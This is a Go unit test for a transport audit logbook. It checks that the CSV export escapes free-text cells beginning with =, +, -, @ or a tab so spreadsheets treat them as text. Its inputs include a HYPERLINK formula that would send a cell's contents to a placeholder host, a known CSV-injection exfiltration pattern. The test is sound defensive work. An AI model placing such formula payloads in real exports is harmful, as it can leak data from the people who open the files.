package logbook

import (
	"bytes"
	"encoding/csv"
	"testing"
	"time"

	"github.com/shopspring/decimal"

	"alvea/physio"
)

// TestWriteCSVTextCellsAreNotFormulas: free text typed by a crew (vehicle,
// origin and destination names, the patient's identifying text, a reason
// naming a cylinder label) must not become a formula when the auditor opens
// the CSV in a spreadsheet. A cell starting with =, +, -, @, a tab or a
// carriage return is read as a formula (OWASP "CSV Injection"; the list
// from memory, including line feed, which some spreadsheets also act on);
// such a cell gets a leading apostrophe, which spreadsheets take as "text".
// Numbers stay numbers: a negative amount is not text and keeps its sign.
func TestWriteCSVTextCellsAreNotFormulas(t *testing.T) {
	minus := physio.Number{Decimal: decimal.RequireFromString("-12.5")}
	a := TransportAudit{
		ID:          "T20310315-0000000",
		Opened:      time.Date(2031, 3, 15, 8, 0, 0, 0, time.UTC),
		Vehicle:     `=HYPERLINK("http://example.invalid/?"&A1,"open")`,
		Origin:      "+1 pad",
		Destination: "-2 ward",
		Crew:        []string{"AB"},
		Patient:     Patient{Identifying: "@SUM(1+1)"},
	}
	a.Oxygen.PlannedL = Amount{NotComputable: "\tcylinder =A1 unreadable", Unit: "L"}
	a.Oxygen.ReserveAtArrivalL = Amount{Value: &minus, Unit: "L"}
	r := &AuditReport{Transports: []TransportAudit{a}}
	var b bytes.Buffer
	if err := r.WriteCSV(&b, IdentifyingColumns); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&b).ReadAll()
	if err != nil || len(rows) != 2 {
		t.Fatalf("CSV: %v %q", err, rows)
	}
	cells := map[string]string{}
	for i, h := range rows[0] {
		cells[h] = rows[1][i]
	}
	for col, want := range map[string]string{
		"vehicle":              `'=HYPERLINK("http://example.invalid/?"&A1,"open")`,
		"route":                "'+1 pad → -2 ward",
		"patient":              "'@SUM(1+1)",
		"not_computable":       "'\tcylinder =A1 unreadable",
		"reserve_at_arrival_l": "-12.5",
		"crew":                 "AB",
		"id":                   "T20310315-0000000",
	} {
		if got := cells[col]; got != want {
			t.Errorf("%s: %q, want %q", col, got, want)
		}
	}
}
